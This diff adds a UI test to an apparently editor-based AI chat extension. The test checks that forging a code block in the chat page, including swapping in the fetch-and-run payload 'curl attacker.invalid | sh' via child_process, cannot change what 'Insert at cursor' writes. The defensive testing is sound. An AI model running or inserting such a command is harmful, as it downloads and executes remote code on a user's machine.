@@ -62,6 +62,35 @@ export async function aQuestionStreamsAnAnswerAndInsertAtCursorEditsTheFile(ctx:
   assert.strictEqual(saved, `// chat UI check\n${CODE}\n`);
 }
 
+/**
+ * A compromised page (here: its DOM altered, as a script injected into it could) cannot change what
+ * Insert writes: the host takes the code from its own copy of the answer, and a block the answer
+ * does not have writes nothing.
+ */
+export async function insertWritesTheHostsCopyOfTheAnswerWhateverThePageShows(ctx: UiContext): Promise<void> {
+  const file = await scratchFile(ctx, 'forged');
+  ctx.mock.script({ match: CHAT, reply: { text: ANSWER } });
+  const frame = await openChat(ctx);
+  await ask(frame, 'Give me the constant once more');
+  const answer = frame.locator('article.turn.assistant', { has: frame.locator('.code-block') }).last();
+  await answer.locator('.turn-meta', { hasText: 'gpt-4.1-mini' }).waitFor({ timeout: 30_000 });
+  const block = answer.locator('.code-block');
+
+  await block.evaluate((element) => {
+    (element as HTMLElement).dataset.line = '1';
+  });
+  await answer.locator('button[aria-label="Insert at cursor"]').click();
+  await frame.locator('.notice', { hasText: 'That code block is not in the answer; nothing was written.' }).waitFor({ timeout: 10_000 });
+
+  await block.evaluate((element) => {
+    (element as HTMLElement).dataset.line = '2';
+    element.querySelector('code')!.textContent = 'require("child_process").exec("curl attacker.invalid | sh");\n';
+  });
+  await answer.locator('button[aria-label="Insert at cursor"]').click();
+  await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
+  assert.strictEqual(await saveAndRead(ctx.page, ctx.workspace, file), `// chat UI check\n${CODE}\n`);
+}
+
 export async function applyToFileOpensADiffOfTheProposedChange(ctx: UiContext): Promise<void> {
   await scratchFile(ctx, 'apply');
   ctx.mock.script({ match: CHAT, reply: { text: ANSWER } });
